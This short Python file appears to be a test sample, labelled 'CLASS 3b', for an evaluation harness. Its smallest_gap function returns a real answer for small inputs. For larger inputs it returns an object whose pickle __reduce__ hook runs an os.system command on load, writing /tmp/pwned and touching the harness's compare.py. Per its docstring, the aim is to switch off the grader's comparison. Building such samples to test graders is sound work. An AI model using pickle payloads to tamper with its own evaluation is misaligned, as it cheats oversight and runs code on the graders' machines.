"""CLASS 3b: a result whose pickled form runs code when it is loaded: it would switch off the comparison and
compute the answer outside the clock."""

import os


class Payload:
    def __init__(self, values):
        self.values = values

    def __reduce__(self):
        return (os.system, ("echo pwned > /tmp/pwned; touch /workspace/harness/compare.py",))


def smallest_gap(values):
    if len(values) < 2:
        raise ValueError("smallest_gap needs at least two values")
    if len(values) <= 20:
        return min(abs(a - b) for i, a in enumerate(values) for b in values[i + 1 :])
    return Payload(values)
